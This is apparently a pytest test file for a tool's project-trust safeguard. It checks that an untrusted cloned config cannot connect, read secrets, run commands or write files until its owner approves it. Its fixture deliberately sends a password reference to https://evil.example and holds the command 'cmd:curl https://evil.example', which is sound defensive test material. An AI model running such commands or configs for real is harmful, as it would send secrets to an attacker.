"""What a found project file may do before its owner trusted it: nothing that runs, reads, connects or writes."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from difyops import credentials
from difyops.config import Config, Looking, load, save_context
from difyops.config_file import Context
from difyops.dsl.load import load_yaml
from difyops.errors import ConfigError, Refused, StoreError
from difyops.file_owner import open_once
from difyops.secret_text import SecretText
from difyops.trust import Marked, TrustBook, TrustedParts, is_reference

FILE = """
default_context: prod
contexts:
  prod: {url: 'https://evil.example', email: ops@example.com, password: 'env:PROD_PASSWORD', timeout: 10}
store: kept
runbooks: [books]
deliver: {"app-key/x": ["cmd:curl https://evil.example"]}
secrets: {hold: file, rules: [{match: '*', deliver: 'file:out'}], probes: {a: {query: hello}}}
panels: {all: {to: [a]}}
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "cloned"
    folder.mkdir()
    (folder / "difyops.yaml").write_text(FILE)
    return folder


def found(folder: Path, ask: Callable[[str, list[str]], bool] | None = None, **more: Any) -> Config:
    environment = {"XDG_CONFIG_HOME": str(folder / "nobody"), "DIFYOPS_STATE": os.environ["DIFYOPS_STATE"]}
    return load(environment=environment | more, looking=Looking(start=folder, ask=ask))


def written(folder: Path, text: str) -> None:
    (folder / "difyops.yaml").write_text(text)


def test_what_only_looks_asks_for_nothing(project: Path) -> None:
    settings = found(project)
    assert settings.context().url == "https://evil.example"
    assert settings.store == project / "kept"
    assert settings.sections["panels"] == {"all": {"to": ["a"]}}
    assert not TrustBook(state=settings.state).path.exists()


def uses(settings: Config) -> dict[str, Callable[[], object]]:
    rule = settings.sections["secrets"]["rules"][0]["deliver"]
    return {
        "connect": settings.context().require_trust,
        "store": lambda: settings.require("store", "use the store"),
        "runbooks": lambda: settings.require("runbooks", "read the runbooks"),
        "a reference": lambda: credentials.resolve(rule),
        "a receiver": lambda: credentials.store(rule, SecretText("canary-value")),
        "a command": lambda: credentials.resolve(settings.sections["deliver"]["app-key/x"][0]),
    }


@pytest.mark.parametrize("use", ["connect", "store", "runbooks", "a reference", "a receiver", "a command"])
def test_every_use_is_refused_with_the_command_to_run(project: Path, use: str) -> None:
    with pytest.raises(Refused) as caught:
        uses(found(project))[use]()
    assert caught.value.exit_code == 8
    assert f"difyops trust {project}" in (caught.value.hint or "")
    assert not (project / "out").exists()


def test_trust_is_remembered_privately_and_lets_all_of_it_through(project: Path) -> None:
    settings = found(project)
    settings.project_trust.give()
    again = found(project)
    again.context().require_trust()
    again.require("store", "use")
    again.require("runbooks", "use")
    credentials.store(again.sections["secrets"]["rules"][0]["deliver"], SecretText("canary-value"))
    assert (project / "out").read_text() == "canary-value\n"
    book = TrustBook(state=settings.state)
    assert list(book.entries()) == [str(project / "difyops.yaml")]
    assert (book.path.stat().st_mode & 0o777, book.path.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    assert "canary" not in book.path.read_text()


HARMLESS = [
    ("timeout: 10", "timeout: 20"), ("ops@example.com", "dev@example.com"), ("default_context: prod", ""),
    ("to: [a]", "to: [b, c]"), ("hold: file", "hold: keyring"), ("query: hello", "query: bye"),
    ("store:", "# why\nstore:"),
    ("'https://evil.example'", '"https://evil.example"'), ("timeout: 10", "timeout: 10, max_in_flight: 2"),
]  # fmt: skip
TELLING = [
    ("https://evil.example'", "https://other.example'"), ("env:PROD_PASSWORD", "env:OTHER"), ("kept", "elsewhere"),
    ("[books]", "[books, more]"), ("cmd:curl https://evil.example", "cmd:curl https://x"), ("file:out", "file:in"),
    ("timeout: 10", "timeout: 10, ca_file: ca.pem"), ("timeout: 10", "timeout: 10, admin_key: 'env:K'"),
]  # fmt: skip


@pytest.mark.parametrize(("before", "after"), HARMLESS)
def test_any_other_change_does_not_ask_again(project: Path, before: str, after: str) -> None:
    found(project).project_trust.give()
    assert before in FILE
    written(project, FILE.replace(before, after))
    assert found(project).project_trust.is_given


@pytest.mark.parametrize(("before", "after"), TELLING)
def test_a_change_of_those_parts_asks_again_and_says_why(project: Path, before: str, after: str) -> None:
    found(project).project_trust.give()
    assert before in FILE
    written(project, FILE.replace(before, after))
    with pytest.raises(Refused, match="changed since it was trusted"):
        found(project).context().require_trust()


def test_another_context_another_folder_and_another_name_ask_again(project: Path, tmp_path: Path) -> None:
    found(project).project_trust.give()
    moved = tmp_path / "moved"
    project.rename(moved)
    assert not found(moved).project_trust.is_given
    written(moved, FILE.replace("  prod:", "  prod2: {url: 'https://x.example'}\n  prod:"))
    assert not found(moved).project_trust.is_given


def test_a_link_to_a_trusted_file_is_not_trusted_where_it_lies(project: Path, tmp_path: Path) -> None:
    found(project).project_trust.give()
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / "difyops.yaml").symlink_to(project / "difyops.yaml")
    assert not found(hostile).project_trust.is_given  # its relative paths lie elsewhere
    (tmp_path / "link").symlink_to(project)
    assert found(tmp_path / "link").project_trust.is_given  # the same folder under another name


def test_a_field_that_is_new_to_a_context_counts_until_it_is_known_to_be_harmless() -> None:
    document = {"contexts": {"a": {"url": "https://a.example", "api_url": "https://b.example", "proxy": "x"}}}
    assert [place for place, _ in TrustedParts.of(document).values] == [
        "contexts.a.api_url", "contexts.a.proxy", "contexts.a.url",
    ]  # fmt: skip


def test_references_count_wherever_they_stand_but_not_in_panels() -> None:
    document = load_yaml(b"slo: {pager: {hook: ['env:HOOK'], webhook_url: 'https://x.example'}}\n"
                         b"panels: {a: {inputs: {q: 'file: me'}}}\nsecrets: {hold: file}\n")  # fmt: skip
    assert [place for place, _ in TrustedParts.of(document).values] == ["slo.pager.hook[0]", "slo.pager.webhook_url"]


def test_a_file_that_says_nothing_of_the_kind_needs_no_trust(project: Path) -> None:
    written(project, "default_context: a\npanels: {all: {to: [a]}}\nsecrets: {rotate_every: 90d}\n")
    assert found(project).project_trust.is_given


class TestAsking:
    """A person at a terminal sees what it would do and answers once."""

    def test_programs_come_first_then_where_secrets_go(self, project: Path) -> None:
        seen: list[list[str]] = []

        def ask(file: str, would: list[str]) -> bool:
            assert file == str(project / "difyops.yaml")
            seen.append(would)
            return True

        settings = found(project, ask)
        settings.context().require_trust()
        settings.require("store", "use")
        assert len(seen) == 1
        assert seen[0][0].startswith("run curl https://evil.example")
        assert seen[0][1].startswith("send env:PROD_PASSWORD to https://evil.example")
        assert any(line.startswith("hand new secrets to file:") for line in seen[0])
        assert found(project).project_trust.is_given

    def test_a_no_is_refused_at_once_and_not_asked_again_in_this_run(self, project: Path) -> None:
        asked = []

        def ask(file: str, would: list[str]) -> bool:
            asked.append(file)
            return bool(not would)

        settings = found(project, ask)
        for _ in range(3):
            with pytest.raises(Refused):
                settings.context().require_trust()
        assert len(asked) == 1
        assert not found(project).project_trust.is_given

    def test_steps_side_by_side_ask_once(self, project: Path) -> None:
        asked = []

        def ask(file: str, would: list[str]) -> bool:
            asked.append((file, would))
            return True

        settings = found(project, ask)
        threads = [threading.Thread(target=settings.context().require_trust) for _ in range(8)]
        for each in threads:
            each.start()
        for each in threads:
            each.join()
        assert len(asked) == 1

    def test_a_dry_run_holds_the_answer_for_itself(self, project: Path) -> None:
        environment = {"XDG_CONFIG_HOME": str(project / "nobody"), "DIFYOPS_STATE": os.environ["DIFYOPS_STATE"]}
        looking = Looking(start=project, ask=lambda file, would: bool(file and would), remembers=False)
        settings = load(environment=environment, looking=looking)
        settings.context().require_trust()
        settings.require("store", "use")
        assert not TrustBook(state=settings.state).path.exists()


@pytest.mark.parametrize("way", ["flag", "environment", "user"])
def test_a_named_file_is_trusted_by_being_named(project: Path, way: str) -> None:
    path = project / "difyops.yaml"
    environment = {"XDG_CONFIG_HOME": str(project / "nobody")}
    elsewhere = project.parent
    if way == "user":
        target = project / "nobody" / "difyops" / "config.yaml"
        target.parent.mkdir(parents=True)
        path.rename(target)
    if way == "environment":
        environment["DIFYOPS_CONFIG"] = str(path)
    settings = load(environment=environment, looking=Looking(start=elsewhere, file=path if way == "flag" else None))
    settings.context("prod").require_trust()
    settings.require("store", "use")
    assert not isinstance(settings.sections["deliver"]["app-key/x"][0], Marked)


class TestWriting:
    """``context add`` trusts what it writes, and never what a stranger wrote before."""

    def book(self) -> TrustBook:
        return TrustBook(state=Path(os.environ["DIFYOPS_STATE"]))

    def test_what_it_writes_is_trusted(self, project: Path) -> None:
        (project / "difyops.yaml").unlink()
        new = Context(name="a", url="https://a.example", password="env:A", email="o@a.example")
        save_context(project / "difyops.yaml", new, make_default=True, trust=self.book())
        found(project).context("a").require_trust()

    def test_a_strangers_file_is_not_blessed_by_adding_to_it(self, project: Path) -> None:
        before = (project / "difyops.yaml").read_text()
        with pytest.raises(Refused):
            save_context(
                project / "difyops.yaml",
                Context(name="a", url="https://a.example"),
                make_default=True,
                trust=self.book(),
            )
        assert (project / "difyops.yaml").read_text() == before
        assert not found(project).project_trust.is_given


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"files": 7}', '{"files": [1]}', "\x00", "not json", "[" * 100_000])
def test_a_damaged_list_trusts_nothing_and_says_so(project: Path, text: str) -> None:
    settings = found(project)
    settings.project_trust.give()
    TrustBook(state=settings.state).path.write_text(text)
    with pytest.raises((StoreError, Refused)):
        found(project).context().require_trust()


def test_a_list_that_others_can_write_trusts_nothing(project: Path) -> None:
    settings = found(project)
    settings.project_trust.give()
    TrustBook(state=settings.state).path.chmod(0o666)
    with pytest.raises(StoreError, match="can be read by others"):
        found(project).context().require_trust()


def test_two_who_trust_at_once_lose_nothing(tmp_path: Path) -> None:
    book = TrustBook(state=tmp_path / "state")
    threads = [threading.Thread(target=book.add, args=(tmp_path / str(n), "d")) for n in range(12)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    assert len(json.loads(book.path.read_text())["files"]) == 12
    assert book.remove(tmp_path / "3")
    assert not book.remove(tmp_path / "3")


class TestOneOpening:
    """A file is judged by what was opened, not by what its path means a moment later."""

    def test_a_link_that_is_swapped_meanwhile_never_passes(self, tmp_path: Path) -> None:
        good, bad, link = tmp_path / "good", tmp_path / "bad", tmp_path / "difyops.yaml"
        good.write_text("store: good\n")
        bad.write_text("store: bad\n")
        bad.chmod(0o666)
        link.symlink_to(bad)
        stop = threading.Event()

        def swap() -> None:
            while not stop.is_set():
                for target in (good, bad):
                    (tmp_path / "next").symlink_to(target)
                    (tmp_path / "next").replace(link)

        swapper = threading.Thread(target=swap)
        swapper.start()
        try:
            for _ in range(300):
                opened = open_once(link)
                assert (opened.complaint(strict=True) is None) == (opened.content == b"store: good\n")
        finally:
            stop.set()
            swapper.join()

    def test_what_is_no_file_is_not_waited_for(self, tmp_path: Path, project: Path) -> None:
        os.mkfifo(tmp_path / "pipe")
        with pytest.raises(OSError, match="regular file"):
            open_once(tmp_path / "pipe")
        (project / "difyops.yaml").unlink()
        with pytest.raises(ConfigError):
            found(project, DIFYOPS_CONFIG=str(tmp_path / "pipe"))


def test_a_reference_keeps_where_it_came_from(project: Path) -> None:
    reference = found(project).sections["deliver"]["app-key/x"][0]
    assert isinstance(reference, Marked)
    assert reference == "cmd:curl https://evil.example"
    assert is_reference(reference)
